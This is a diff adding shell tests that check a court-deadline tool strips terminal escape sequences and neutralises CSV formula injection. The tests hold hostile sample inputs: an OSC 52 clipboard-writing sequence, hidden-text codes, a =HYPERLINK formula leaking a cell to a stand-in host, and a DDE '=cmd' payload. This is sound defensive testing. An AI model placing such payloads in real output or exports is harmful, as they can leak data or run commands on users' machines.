@@ -44,4 +44,65 @@ run extract "$T/event.txt" --entered 2017-05-19 --court txsd --json
 is "$(printf '%s' "$out" | /usr/bin/python3 -c 'import json, sys; t = json.load(sys.stdin)["obligations"][0]["trigger"]; print(t["n"], len(t["event"]) if t else None)')" "14 45" \
 	"extract --json keeps the trigger of an event cut to its field (between characters)"
 
+# 5. Control characters from an order or a stored value never reach the
+# terminal: OSC 52 (writes the clipboard), SGR 8 (hides text), a C1 CSI,
+# a carriage return that overwrites the line, in every report.
+esc=$(printf '\033')
+# controlled FILE: the control characters FILE holds (C0 but tab and
+# newline, DEL, C1 as UTF-8), as octal, or nothing
+controlled() { LC_ALL=C tr -d '\t\n\040-\176\200-\301\303-\377' < "$1" | od -An -c | tr -s ' \n' ' ' | sed 's/^ //;s/ $//'; LC_ALL=C grep -c "$(printf '\302[\200-\237]')" "$1" | sed 's/^0$//'; }
+printf 'IT IS ORDERED that Defendants shall \033]52;c;ZXZpbA==\007respond \033[8mto the hidden requests\033[0m within 14 days.\n' > "$T/esc.txt"
+for cmd in "extract $T/esc.txt --entered 2017-05-19 --court txsd" "import $T/esc.txt --case 1:25-cv-00077 --entered 2017-05-19"; do
+	run -d "$db" $cmd
+	printf '%s\n' "$out" "$err" > "$T/shown.txt"
+	is "$rc/$(controlled "$T/shown.txt")" "0/" "${cmd%% *} of an order with escape sequences shows no control character"
+done
+like "$out" "action: ]52;c;ZXZpbA==respond [8mto the hidden requests[0m" "... and the text around them stays visible"
+id=$(sqlite3 "$db" "SELECT max(id) FROM obligations")
+sql "UPDATE obligations SET who = 'Plaintiff' || char(13) || 'Defendant', note = 'n' || char(155) || '2J',
+ scope = 's' || char(27) || '[2J' WHERE id = $id;
+ INSERT INTO history (obligation_id, case_id, what, old, new, cause, at)
+ SELECT $id, case_id, 'note', NULL, 'x' || char(27) || ']0;title' || char(7), 'c' || char(127), '2017-06-01T00:00:00Z' FROM obligations WHERE id = $id;
+ UPDATE cases SET caption = 'A' || char(27) || '[8m v. B', judge = 'J' || char(7)"
+for cmd in "list" "list --status all" "show $id" "show $id --explain" "changes" "case list" "case show 1:25-cv-00077" "subscriber list"; do
+	run -d "$db" $cmd
+	printf '%s\n' "$out" "$err" > "$T/shown.txt"
+	is "$(controlled "$T/shown.txt")" "" "$cmd: no control character reaches the terminal"
+done
+like "$(dl -d "$db" show $id)" "PlaintiffDefendant" "... a carriage return is taken out, not obeyed"
+run -d "$db" --color=always list
+like "$out" "$esc[" "our own colours still reach the terminal"
+run -d "$db" case show "1:25-cv-00077$(printf '\033[8m')"
+printf '%s\n' "$out" "$err" > "$T/shown.txt"
+is "$(controlled "$T/shown.txt")" "" "an error message quoting a value shows no control character"
+# the filter meets characters cut in two where stdio's buffer ends: 400
+# actions of 3-byte characters make 60 KB of report
+big="$T/big.db"
+dl -d "$big" case add 1:1 --court txsd --caption "A v. B" >/dev/null
+sqlite3 "$big" "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i+1 FROM n WHERE i < 400)
+ INSERT INTO obligations (uid, case_id, kind, who, action, trigger, rules, due_date, basis, status, created, updated)
+ SELECT printf('%032x@deadlines', i), 1, 'deadline', 'x', substr(i || '中文字符中文字符', 1, 9)
+ || ' 中文字符中文字符中文字符中文字符',
+ 'none', 'frcp', '2017-06-20', 'stated', 'open', '2026-01-01T00:00:00Z', '2026-01-01T00:00:00Z' FROM n"
+dl -d "$big" list --format csv > "$T/big.csv"
+utf8 "$T/big.csv"; ok $? "a long report of characters of three bytes stays valid UTF-8"
+is "$(cut -d, -f8 "$T/big.csv" | tail -n +2 | sort | md5sum)" "$(sqlite3 "$big" "SELECT action FROM obligations" | sort | md5sum)" \
+	"... and keeps every character"
+# CSV: a value a spreadsheet would run as a formula (OWASP: =, +, -, @, tab,
+# carriage return first) is neutralised with a leading quote
+for a in '=HYPERLINK("http://x.test/?"&A1,"click")' '+1+2' '-2+3' '@SUM(A1:A2)'; do
+	dl -d "$db" add --case 1:25-cv-00077 --who Plaintiff --action "$a" --due 2017-06-22 >/dev/null
+done
+sql "UPDATE obligations SET action = char(9) || 'tab' WHERE action = '+1+2';
+ UPDATE obligations SET who = '=cmd|'' /C calc''!A0' WHERE action = '-2+3'"
+run -d "$db" list --format csv
+is "$(printf '%s\n' "$out" | /usr/bin/python3 -c '
+import csv, sys
+bad = [f for row in csv.reader(sys.stdin) for f in row if f[:1] in ("=", "+", "@", "\t", "\r") or (f[:1] == "-" and not f.lstrip("-").isdigit())]
+print(len(bad), bad[:3])')" "0 []" "list --format csv: no field begins a formula"
+like "$out" "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"click\"\")\"" "... the formula kept, after a quote"
+like "$out" "'-2+3" "... also one that begins with a minus"
+like "$out" ",19,1:25-cv-00077," "... while the program's own numbers are left alone"
+like "$(dl -d "$db" --today 2017-07-01 list --format csv)" ",-11,1:25-cv-00077," "... negative ones too"
+
 done_testing
